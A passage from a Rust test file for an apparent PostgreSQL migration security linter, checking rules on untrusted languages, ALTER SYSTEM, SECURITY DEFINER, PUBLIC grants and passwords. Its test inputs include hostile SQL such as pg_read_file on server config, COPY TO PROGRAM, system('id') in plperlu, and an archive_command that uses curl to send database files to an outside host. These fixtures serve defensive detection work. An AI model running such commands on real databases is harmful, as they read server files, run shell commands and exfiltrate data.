            "CREATE FUNCTION conf() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('postgresql.conf'); END;"
        ),
        ["server-file-access"]
    );
    for ok in [
        "DO $$ BEGIN RAISE NOTICE 'pg_read_file(x)'; -- COPY t TO PROGRAM 'id'\nEND $$;",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO log VALUES ('COPY t TO PROGRAM'); END $$;",
        "CREATE FUNCTION copy_rows() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY t FROM STDIN; END $$;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
}

#[test]
fn untrusted_languages_in_routines_do_blocks_languages_and_extensions() {
    assert_eq!(
        spans(
            "CREATE OR REPLACE FUNCTION add_one(int) RETURNS int AS '$libdir/add', 'add_one' LANGUAGE C STRICT;"
        ),
        [("untrusted-language".into(), "LANGUAGE C".into())]
    );
    for sql in [
        "CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.environ['HOME'] $$;",
        "CREATE PROCEDURE p() LANGUAGE plperlu AS $$ system('id') $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE 'pltclu' AS $$ return 1 $$;",
        "CREATE FUNCTION my_in(cstring) RETURNS int4 LANGUAGE internal AS 'int4in';",
        "DO LANGUAGE plpythonu $$ import os $$;",
        "DO $$ import os $$ LANGUAGE plpython3u;",
        "CREATE EXTENSION IF NOT EXISTS plpython3u;",
        "CREATE EXTENSION \"plperlu\" SCHEMA pg_catalog;",
        "CREATE LANGUAGE plperlu;",
        "CREATE OR REPLACE TRUSTED PROCEDURAL LANGUAGE pltclu HANDLER pltclu_call_handler;",
    ] {
        assert_eq!(security_rules(sql), ["untrusted-language"], "{sql}");
    }
    for ok in [
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS $$ return 1 $$;",
        "CREATE EXTENSION IF NOT EXISTS plpgsql;",
        "CREATE EXTENSION IF NOT EXISTS pgcrypto;",
        "DO $$ BEGIN PERFORM 1; END $$;",
        "CREATE LANGUAGE plpgsql;",
        "SELECT 'LANGUAGE c';",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
}

#[test]
fn alter_system_is_reported() {
    assert_eq!(
        spans("ALTER SYSTEM SET archive_command = 'curl -d @%p https://x';"),
        [(
            "alter-system".into(),
            "ALTER SYSTEM SET archive_command = 'curl -d @%p https://x'".into()
        )]
    );
    assert_eq!(security_rules("ALTER SYSTEM RESET ALL;"), ["alter-system"]);
    for ok in [
        "ALTER DATABASE app SET statement_timeout = '5s';",
        "ALTER ROLE app SET work_mem = '64MB';",
        "-- ALTER SYSTEM SET work_mem = '1GB';\nSELECT 1;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
}

#[test]
fn security_definer_needs_a_fixed_search_path() {
    assert_eq!(
        spans(
            "CREATE FUNCTION public.handle_new_user() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN NEW; END $$;"
        ),
        [(
            "security-definer-search-path".into(),
            "SECURITY DEFINER".into()
        )]
    );
    assert_eq!(
        security_rules(
            "CREATE PROCEDURE p() LANGUAGE sql EXTERNAL SECURITY DEFINER AS $$ SELECT 1 $$;"
        ),
        ["security-definer-search-path"]
    );
    assert_eq!(
        security_rules("ALTER FUNCTION public.f(int) SECURITY DEFINER;"),
        ["security-definer-search-path"]
    );
    // A later CREATE OR REPLACE without SET search_path drops the fixed one.
    assert_eq!(
        security_rules(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = '' AS $$ SELECT 1 $$;\n\
             CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 2 $$;\n\
             ALTER FUNCTION f() SECURITY DEFINER;"
        ),
        ["security-definer-search-path"]
    );
    for ok in [
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = '' AS $$ SELECT 1 $$;",
        "create function f() returns int language sql security definer set search_path = pg_catalog, public as $$ select 1 $$;",
        "CREATE FUNCTION f() RETURNS int SET search_path TO app, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path FROM CURRENT AS $$ SELECT 1 $$;",
        // supabase db dump / pg_dump spelling.
        "CREATE OR REPLACE FUNCTION \"public\".\"handle_new_user\"() RETURNS \"trigger\"\n    LANGUAGE \"plpgsql\" SECURITY DEFINER\n    SET \"search_path\" TO ''\n    AS $$ BEGIN RETURN NEW; END $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS $$ SELECT 1 $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
        // Fixed later in the same migration.
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$; ALTER FUNCTION f() SET search_path = '';",
        "ALTER FUNCTION f(int) SECURITY DEFINER SET search_path = '';",
        // Fixed earlier.
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = '' AS $$ SELECT 1 $$; ALTER FUNCTION f() SECURITY DEFINER;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'SECURITY DEFINER'; END $$;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
    // What an earlier migration fixed carries to later ones.
    let earlier = migration(
        "001",
        "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql SET search_path = '' AS $$ SELECT 1 $$;",
    );
    let later = migration("002", "ALTER FUNCTION app.f() SECURITY DEFINER;");
    assert!(findings_in(&[earlier, later.clone()]).is_empty());
    assert_eq!(findings_in(&[later]).len(), 1);
}

#[test]
fn write_grants_to_public() {
    assert_eq!(
        spans("GRANT INSERT, UPDATE ON TABLE accounts TO app, PUBLIC;"),
        [(
            "grant-write-to-public".into(),
            "GRANT INSERT, UPDATE ON TABLE accounts TO app, PUBLIC".into()
        )]
    );
    for sql in [
        "GRANT ALL ON accounts TO PUBLIC;",
        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO public;",
        "GRANT UPDATE (email) ON accounts TO PUBLIC;",
        "GRANT TRUNCATE ON accounts TO PUBLIC WITH GRANT OPTION;",
        "GRANT USAGE, UPDATE ON SEQUENCE accounts_id_seq TO PUBLIC;",
        "GRANT ALL ON SCHEMA public TO PUBLIC;",
        "GRANT CREATE ON SCHEMA public TO PUBLIC;",
        "GRANT CREATE ON DATABASE app TO PUBLIC;",
        "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT INSERT ON TABLES TO PUBLIC;",
        "GRANT DELETE ON \"public\".\"accounts\" TO \"public\";",
    ] {
        assert_eq!(security_rules(sql), ["grant-write-to-public"], "{sql}");
    }
    for ok in [
        "GRANT SELECT ON accounts TO PUBLIC;",
        "GRANT USAGE ON SCHEMA app TO PUBLIC;",
        "GRANT ALL ON FUNCTION f() TO PUBLIC;",
        "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA app TO PUBLIC;",
        "GRANT ALL ON TABLE accounts TO app_writer;",
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO anon, authenticated, service_role;",
        "REVOKE ALL ON SCHEMA public FROM PUBLIC;",
        "GRANT app_writer TO app;",
        "ALTER DEFAULT PRIVILEGES REVOKE INSERT ON TABLES FROM PUBLIC;",
        "ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO PUBLIC;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
}

#[test]
fn superuser_roles_and_plain_text_passwords() {
    assert_eq!(
        spans("CREATE ROLE admin WITH LOGIN SUPERUSER PASSWORD 'hunter2';"),
        [
            ("superuser-role".into(), "SUPERUSER".into()),
            ("plain-text-password".into(), "PASSWORD 'hunter2'".into()),
        ]
    );
    assert_eq!(
        security_rules("ALTER USER ops SUPERUSER;"),
        ["superuser-role"]
    );
    assert_eq!(
        security_rules("ALTER ROLE app WITH ENCRYPTED PASSWORD E'plain\\'text';"),
        ["plain-text-password"]
    );
    assert_eq!(
        security_rules("CREATE USER app PASSWORD 'md5notahash';"),
        ["plain-text-password"]
    );
    assert_eq!(
        security_rules(
            "CREATE USER MAPPING FOR app SERVER billing OPTIONS (user 'etl', password 'secret');"
        ),
        ["plain-text-password"]
    );
    for ok in [
        "CREATE ROLE app LOGIN PASSWORD NULL;",
        "CREATE ROLE app NOLOGIN NOSUPERUSER;",
        "CREATE ROLE app LOGIN PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy';",
        "CREATE ROLE app LOGIN PASSWORD 'md5f9a2c1e3b4d5a6978f0e1d2c3b4a5968';",
        "CREATE ROLE app LOGIN PASSWORD :'app_password';",
        "CREATE ROLE reader IN ROLE superuser;",
        "ALTER ROLE app SET search_path = 'superuser';",
        "ALTER ROLE app RENAME TO superuser;",
        "CREATE USER MAPPING FOR app SERVER billing OPTIONS (user 'etl');",
        "-- CREATE ROLE admin SUPERUSER PASSWORD 'x';\nSELECT 1;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
    // The password never appears in the finding.
    let m = migration("001", "CREATE ROLE app LOGIN PASSWORD 'hunter2';");
    let f = findings_of(&m);
    let text = format!("{:?}", f[0]);
    assert!(!text.contains("hunter2"), "{text}");
}

#[test]
fn an_extension_dropped_and_created_again_is_not_lost() {
    assert!(
        rules("DROP EXTENSION IF EXISTS pg_trgm; CREATE EXTENSION pg_trgm SCHEMA ext;").is_empty()
    );
    assert!(
        rules("DO $$ BEGIN DROP EXTENSION IF EXISTS pg_trgm; CREATE EXTENSION pg_trgm; END $$;")
            .iter()
            .all(|r| r != "drop-object")
    );
    assert_eq!(rules("DROP EXTENSION pg_trgm;"), ["drop-object"]);
}
